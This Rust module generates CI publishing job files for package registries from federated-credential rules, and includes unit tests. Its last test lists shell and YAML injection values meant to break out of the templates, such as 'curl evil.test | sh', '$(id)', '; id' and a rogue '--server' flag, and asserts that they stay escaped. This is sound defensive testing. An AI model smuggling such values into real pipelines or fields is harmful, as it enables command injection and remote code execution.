//! Snippets: the job files with which the workload of a rule publishes, for its platform and for the
//! clients that this server serves at the rule's registries.
//!
//! What a job file contains is data (`engine/snippets/`): `platforms/` says how a job gets its token on
//! a platform, `clients/` what the publishing step does. [`offered`] fills both with the URLs of this
//! server, the registry, the principal and what the rule requires of the job.

mod data;
mod door;
mod maker;
mod template;

use std::collections::BTreeMap;

use serde::Serialize;
use serde_json::{Map, Value};

use data::Files;
use maker::Maker;

use crate::documents::{FederatedCredentialDocument, Stored};
use crate::model::{ResourceServer, Snapshot, TrustedIssuer};
use crate::own_urls::OwnUrls;
use crate::possession::ProofDemand;

/// For how many registries of a rule snippets are made.
const MAX_REGISTRIES: usize = 16;

/// Whose job publishes where.
#[derive(Clone, Debug)]
pub struct Publisher<'a> {
    pub issuer: &'a TrustedIssuer,
    /// The name of the principal that the job acts for.
    pub principal: &'a str,
    /// The conditions of the rule, in their stored form.
    pub matcher: &'a Map<String, Value>,
    /// The registries, each with what it and the rule's permissions ask of proofs.
    pub registries: Vec<(&'a ResourceServer, ProofDemand)>,
    /// Whether the rule counts for new packages without being named.
    pub vouched: bool,
}

/// The snippets of one rule.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct Snippets {
    /// Those that name the principal come first.
    pub snippets: Vec<Snippet>,
    /// What is not offered, with the reason.
    pub left_out: Vec<LeftOut>,
}

/// A job file to copy.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct Snippet {
    /// The registry, by the name of its resource server.
    pub resource_server: String,
    /// The title of the platform.
    pub platform: String,
    /// The client: `uv`, `twine`, `npm`, `cargo`, `gem`, `nuget`, or `oauth` for an access token.
    pub client: &'static str,
    pub title: String,
    /// The packages that the job can publish.
    pub packages: Packages,
    /// The file in the repository, if the platform has a place for it.
    pub file_name: Option<String>,
    /// `yaml`, `sh` or `groovy`.
    pub language: String,
    pub text: String,
    /// What to know before the snippet is used.
    pub note: Option<String>,
}

/// The packages that a job can publish with a token.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, utoipa::ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum Packages {
    /// Also a package that does not exist yet, if the rule permits it.
    NewAndExisting,
    /// Those that the rule's principal owns.
    Existing,
}

/// A client that is not offered, or not in one of its ways.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct LeftOut {
    /// The registry, by the name of its resource server.
    pub resource_server: String,
    /// The client; `None` if the registry has no snippets at all.
    pub client: Option<&'static str>,
    pub reason: String,
}

impl<'a> Publisher<'a> {
    /// The publisher of a stored rule. `None` while the rules that this process has do not know the
    /// rule's trusted issuer.
    pub fn of_rule(
        rules: &'a Snapshot,
        rule: &'a Stored<FederatedCredentialDocument>,
    ) -> Option<Self> {
        let document = &rule.document;
        let issuer = rules.issuer_named(&document.trusted_issuer)?;
        let folded = document.principal.to_ascii_lowercase();
        let is_own_issuer = issuer.owner.as_deref() == Some(folded.as_str());
        let mut registries: BTreeMap<&str, (&ResourceServer, ProofDemand)> = BTreeMap::new();
        for permission in &document.permissions {
            let Some(server) = rules.resource_server_called(&permission.resource_server) else {
                continue;
            };
            let asked = permission.demand();
            let (_, demand) = registries
                .entry(&server.name)
                .or_insert((server, server.demand));
            demand.min_proof = demand.min_proof.max(asked.min_proof);
            demand.sender_constraint |= asked.sender_constraint;
        }
        Some(Self {
            issuer,
            principal: &document.principal,
            matcher: &document.matcher,
            registries: registries.into_values().collect(),
            vouched: rule.state.vouching.counts() || is_own_issuer,
        })
    }
}

/// The snippets for a publisher: for each of its registries the clients of the registry's front door,
/// and the token endpoint.
pub fn offered(own: &OwnUrls, publisher: &Publisher<'_>) -> Snippets {
    offered_from(Files::bundled(), own, publisher)
}

fn offered_from(files: &Files, own: &OwnUrls, publisher: &Publisher<'_>) -> Snippets {
    let mut offer = Snippets::default();
    let reasons = &files.shared.reasons;
    let platform = files.platform(&publisher.issuer.profile.name);
    for (at, (server, demand)) in publisher.registries.iter().enumerate() {
        let none = |reason: &str| LeftOut {
            resource_server: server.name.clone(),
            client: None,
            reason: reason.to_owned(),
        };
        let Some(platform) = platform else {
            offer.left_out.push(none(&reasons.no_platform));
            continue;
        };
        if at >= MAX_REGISTRIES {
            offer.left_out.push(none(&reasons.many));
        } else if !server.enabled {
            offer.left_out.push(none(&reasons.disabled));
        } else {
            let maker = Maker {
                files,
                own,
                publisher,
                platform,
                server,
                demand: *demand,
            };
            maker.add_to(&mut offer);
        }
    }
    offer
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use carnet_access::{PackageNames, ProofLevel};
    use serde_json::json;
    use uuid::Uuid;

    use super::data::{By, Platform, Variant};
    use super::*;
    use crate::grant_type::GrantType;
    use crate::ids::{ResourceServerId, TrustedIssuerId};
    use crate::model::{FrontDoor, FrontDoorKind, KeySource, TokenFormat};
    use crate::profile::{Profiles, Replay, Terms};

    const ISSUER: &str = "https://carnet.example";

    fn own() -> OwnUrls {
        OwnUrls::new(ISSUER, "127.0.0.1:1".parse().unwrap()).unwrap()
    }

    fn issuer(profile: &str) -> TrustedIssuer {
        TrustedIssuer {
            id: TrustedIssuerId(Uuid::from_u128(1)),
            name: "platform".to_owned(),
            version: 1,
            profile: Arc::clone(Profiles::load(None).unwrap().get(profile).unwrap()),
            issuer: "https://ci.test".to_owned(),
            terms: Terms::default(),
            keys: KeySource::Discovery,
            audiences: vec![ISSUER.to_owned(), format!("{ISSUER}/token")],
            extra_audiences: Vec::new(),
            algorithms: Vec::new(),
            types: Vec::new(),
            max_assertion_lifetime_seconds: 60,
            leeway_seconds: 0,
            cap_at_assertion_expiry: false,
            replay: Replay::Off,
            replay_claim: "jti".to_owned(),
            banned_events: Vec::new(),
            grants: vec![GrantType::JwtBearer, GrantType::TokenExchange],
            ca_pem: None,
            allow_private: Vec::new(),
            attestation: None,
            owner: None,
            enabled: true,
        }
    }

    fn registry(kind: Option<FrontDoorKind>) -> ResourceServer {
        let hosts = vec!["registry.example".to_owned()];
        let door = |kind: FrontDoorKind| FrontDoor {
            kind,
            audiences: kind.audiences_of(&hosts),
            hosts: hosts.clone(),
            trusted_issuers: None,
        };
        ResourceServer {
            id: ResourceServerId(Uuid::from_u128(1)),
            name: "registry".to_owned(),
            resource: "https://registry.example/".to_owned(),
            aliases: Vec::new(),
            actions: vec!["publish".to_owned()],
            package_names: PackageNames::Exact,
            token_format: TokenFormat::Opaque,
            token_prefix: String::new(),
            token_lifetime_seconds: 900,
            require_principal: false,
            require_protected_ref_or_environment: false,
            demand: ProofDemand::default(),
            front_door: kind.map(door),
            people: None,
            enabled: true,
        }
    }

    /// What is offered for a rule of this principal with this `match`.
    fn offer_of(
        issuer: &TrustedIssuer,
        server: &ResourceServer,
        principal: &str,
        matcher: &Value,
        vouched: bool,
    ) -> Snippets {
        let publisher = Publisher {
            issuer,
            principal,
            matcher: matcher.as_object().unwrap(),
            registries: vec![(server, server.demand)],
            vouched,
        };
        offered(&own(), &publisher)
    }

    fn offer(profile: &str, kind: Option<FrontDoorKind>, vouched: bool) -> Snippets {
        let (issuer, server) = (issuer(profile), registry(kind));
        offer_of(&issuer, &server, "octo-org", &json!({}), vouched)
    }

    fn ways(offer: &Snippets) -> Vec<(&'static str, Packages)> {
        let snippets = offer.snippets.iter();
        snippets
            .map(|snippet| (snippet.client, snippet.packages))
            .collect()
    }

    #[test]
    fn every_file_can_be_read_and_every_platform_is_complete() {
        let (files, mistakes) = Files::read();
        assert_eq!(mistakes, Vec::<String>::new());
        for profile in Profiles::load(None).unwrap().iter() {
            let own = |platform: &&Platform| platform.profiles.contains(&profile.name);
            let count = files.platforms.iter().filter(own).count();
            let expected = usize::from(profile.people.is_none());
            assert_eq!(count, expected, "{}", profile.name);
        }
        for platform in &files.platforms {
            let name = platform.name;
            let has_reason = !platform.no_curl.is_empty();
            assert_eq!(platform.assertion.is_none(), has_reason, "{name}");
            assert!(
                platform.prefers == By::Carnet || platform.assertion.is_some(),
                "{name}"
            );
            let block = if platform.step.is_some() {
                "steps"
            } else {
                "commands"
            };
            let taken = platform.frame.blocks().filter(|taken| *taken == block);
            assert_eq!(taken.count(), 1, "{name}");
        }
        assert_eq!(files.platform("acme-ci").unwrap().name, "any-issuer");
    }

    #[test]
    fn every_client_says_why_it_makes_no_exchange_of_its_own() {
        let files = Files::bundled();
        assert_eq!(files.clients.len(), 7);
        let known = |name: &String| files.platforms.iter().any(|one| one.name == name);
        for client in &files.clients {
            let name = client.name;
            assert!(client.setup.keys().all(known), "{name}");
            let mut named = client.elsewhere.keys().filter(|name| *name != "*");
            assert!(named.all(known), "{name}");
            for variant in &client.variants {
                assert!(variant.platforms.iter().all(known), "{name}");
                let has_steps = variant.steps.is_some();
                assert!(has_steps != variant.commands.is_some(), "{name}");
                for platform in files
                    .platforms
                    .iter()
                    .filter(|one| variant.is_for(one.name))
                {
                    assert!(platform.step.is_some() || !has_steps, "{name}");
                }
            }
            for platform in &files.platforms {
                let own =
                    |variant: &Variant| variant.by == By::Tool && variant.is_for(platform.name);
                let says_why = client.reason(platform.name).is_some();
                let has_own = client.variants.iter().any(own);
                assert!(
                    has_own || says_why || client.front_door.is_none(),
                    "{name} on {}",
                    platform.name
                );
            }
        }
    }

    #[test]
    fn registry_tools_follow_a_token_that_names_the_principal() {
        use Packages::{Existing, NewAndExisting};
        let with_oauth = |ways: &[(&'static str, Packages)]| {
            let oauth = [("oauth", NewAndExisting); 2];
            [ways, &oauth].concat()
        };
        let github = |kind| ways(&offer("github-actions", Some(kind), false));
        assert_eq!(
            github(FrontDoorKind::Pypi),
            with_oauth(&[
                ("twine", NewAndExisting),
                ("uv", NewAndExisting),
                ("uv", Existing)
            ])
        );
        for (kind, client) in [
            (FrontDoorKind::Npm, "npm"),
            (FrontDoorKind::CratesIo, "cargo"),
            (FrontDoorKind::Rubygems, "gem"),
        ] {
            let both = [(client, NewAndExisting), (client, Existing)];
            assert_eq!(github(kind), with_oauth(&both));
            // Where somebody vouches for the rule, the tool needs no name.
            let vouched = offer("github-actions", Some(kind), true);
            assert_eq!(ways(&vouched), with_oauth(&both[..1]));
            assert_eq!(vouched.snippets[0].note, None);
            // Where the tool has no exchange, there are the token with a name and the reason.
            let elsewhere = offer("jenkins", Some(kind), true);
            assert_eq!(ways(&elsewhere)[0], both[0]);
            assert_eq!(elsewhere.left_out[0].client, Some(client));
        }
        // NuGet's action names the principal itself.
        let nuget = [("nuget", NewAndExisting)];
        assert_eq!(github(FrontDoorKind::Nuget), with_oauth(&nuget));
        let nuget = offer("github-actions", Some(FrontDoorKind::Nuget), false);
        assert!(nuget.snippets[0].text.contains("    user: octo-org\n"));
        let npm = offer("github-actions", Some(FrontDoorKind::Npm), false);
        let notes = &Files::bundled().shared.notes;
        let said: Vec<_> = npm.snippets.iter().map(|one| one.note.as_deref()).collect();
        assert_eq!(said[..2], [Some(&*notes.named), Some(&*notes.tool)]);
        // Without a door there is the token endpoint.
        let spiffe = offer("spiffe", None, false);
        assert_eq!(ways(&spiffe), [("oauth", NewAndExisting)]);
    }

    #[test]
    fn what_cannot_work_is_left_out_with_its_reason() {
        let reasons = &Files::bundled().shared.reasons;
        let github = issuer("github-actions");
        let left_out = |issuer: &TrustedIssuer, server: &ResourceServer| {
            let offer = offer_of(issuer, server, "octo-org", &json!({}), false);
            let said = offer.left_out.iter().map(|one| one.reason.clone());
            (offer.snippets.len(), said.collect::<Vec<_>>())
        };
        let changed = |change: &dyn Fn(&mut ResourceServer)| {
            let mut server = registry(Some(FrontDoorKind::Npm));
            change(&mut server);
            left_out(&github, &server)
        };
        let said = |count: usize, reasons: &[&String]| {
            (count, reasons.iter().map(|one| (*one).clone()).collect())
        };
        let disabled = changed(&|server| server.enabled = false);
        assert_eq!(disabled, said(0, &[&reasons.disabled]));
        let door = |change: &dyn Fn(&mut FrontDoor)| {
            changed(&|server| server.front_door.iter_mut().for_each(change))
        };
        let foreign = door(&|door| door.trusted_issuers = Some(vec!["other".to_owned()]));
        assert_eq!(foreign, said(3, &[&reasons.issuer_not_at_door]));
        let other = door(&|door| door.audiences = vec!["npm:other".to_owned()]);
        assert_eq!(other, said(3, &[&reasons.audience]));
        let bound = changed(&|server| server.demand.sender_constraint = true);
        assert_eq!(bound, said(1, &[&reasons.bound, &reasons.bound]));
        let proof = changed(&|server| server.demand.min_proof = ProofLevel::Key);
        assert_eq!(proof, said(0, &[&reasons.proof, &reasons.proof]));
        let mut exchange = issuer("github-actions");
        exchange.grants = vec![GrantType::TokenExchange];
        let plain = registry(None);
        assert_eq!(left_out(&exchange, &plain), said(1, &[&reasons.grant]));
        let first = |issuer: &TrustedIssuer, server: &ResourceServer| {
            let mut offer = offer_of(issuer, server, "octo-org", &json!({}), false);
            offer.snippets.remove(0).text
        };
        assert!(first(&exchange, &plain).contains(" --grant token-exchange"));
        // A registry that asks for bound tokens has a command that gets one.
        let mut bound = registry(None);
        bound.demand.sender_constraint = true;
        assert!(first(&github, &bound).contains(" --dpop-key dpop-key.pem)\n"));
    }

    #[test]
    fn a_snippet_has_what_the_rule_requires_of_the_job() {
        let mut github = issuer("github-actions");
        github.audiences = vec!["urn:carnet".to_owned()];
        let matcher = json!({
            "workflow_file": "publish.yml", "environment": { "any_of": ["prod: eu", "prod"] }, "ref": { "glob": "refs/tags/*" },
        });
        let server = registry(Some(FrontDoorKind::CratesIo));
        let snippets = offer_of(&github, &server, "octo-org", &matcher, false).snippets;
        for snippet in &snippets {
            let (name, text) = (snippet.file_name.as_deref(), &snippet.text);
            assert_eq!(name, Some(".github/workflows/publish.yml"));
            assert!(text.contains("\n    environment: \"prod: eu\"\n"), "{text}");
            assert!(text.contains("\n  id-token: write "), "{text}");
            assert_eq!(snippet.platform, "GitHub Actions");
        }
        let has = |at: usize, part: &str| {
            let text = &snippets[at].text;
            assert!(text.contains(part), "{text}");
        };
        has(0, "&audience=urn%3Acarnet\"");
        has(1, "\n          url: https://registry.example\n");
        has(2, " --audience urn:carnet");
        // A door without hosts of its own is below the issuer.
        let mut below = registry(Some(FrontDoorKind::CratesIo));
        if let Some(door) = &mut below.front_door {
            door.hosts = Vec::new();
            door.audiences = vec!["carnet.example/registry/registry".to_owned()];
        }
        let snippets = offer_of(&github, &below, "octo-org", &matcher, true).snippets;
        let text = &snippets[0].text;
        assert!(text.contains("url: https://carnet.example/registry/registry\n"));
        let index = "INDEX: \"sparse+https://registry.example/index/\"\n";
        assert!(text.contains(index), "{text}");
    }

    #[test]
    fn hostile_values_of_a_rule_break_out_of_no_snippet() {
        const HOSTILE: [&str; 15] = [
            "x'; curl evil.test | sh; '",
            "x\"\n  - run: id",
            "$(id)",
            "`id`",
            "${{ secrets.TOKEN }}",
            "<< pipeline.id >>",
            "x\\",
            "*/ id /*",
            "x # y",
            "x: y",
            "--server=https://evil.test",
            "''' + id + '''",
            "x\u{202e}",
            "; id",
            "x && id",
        ];
        const EXPANDED: [&str; 8] = [
            "secrets.TOKEN",
            "$(id)",
            "`id`",
            "<< pipeline",
            "'; curl",
            "\n  - run: id",
            "''' +",
            "\u{202e}",
        ];
        const FIELDS: [&str; 7] = [
            "environment",
            "workflow_file",
            "ci_config_path",
            "namespace",
            "service_account",
            "step_key",
            "email",
        ];
        let profiles = Profiles::load(None).unwrap();
        let mut shown = 0;
        let check = |value: &str, snippet: &Snippet| {
            let text = &snippet.text;
            for expanded in EXPANDED {
                assert!(!text.contains(expanded), "{value}: {text}");
            }
            let name = snippet.file_name.as_deref().unwrap_or_default();
            assert!(template::may_be_shown(name), "{name}");
            // What is harmless in quotes stands in quotes.
            for line in text
                .lines()
                .filter(|line| !line.trim_start().starts_with(['#', '/']))
            {
                for part in line.split(['\'', '"']).step_by(2) {
                    let mut bad = ["x && id", "; id", "x: y", "x # y", "*/ id"].iter();
                    assert!(!bad.any(|bad| part.contains(bad)), "{value}: {line}");
                }
            }
        };
        for profile in profiles.iter().filter(|profile| profile.people.is_none()) {
            let issuer = issuer(&profile.name);
            for kind in FrontDoorKind::ALL.map(Some).into_iter().chain([None]) {
                for value in HOSTILE {
                    let fields = FIELDS.map(|field| (field.to_owned(), json!(value)));
                    let matcher = Value::Object(fields.into_iter().collect());
                    // As the name of the principal, and where everything else is hostile.
                    let mut server = registry(kind);
                    let named = offer_of(&issuer, &server, value, &json!({}), false);
                    server.resource = format!("https://registry.example/{value}");
                    let others = offer_of(&issuer, &server, "octo-org", &matcher, false);
                    for snippet in named.snippets.iter().chain(&others.snippets) {
                        check(value, snippet);
                        shown += 1;
                    }
                }
            }
        }
        assert!(shown > 1000, "{shown}");
    }
}
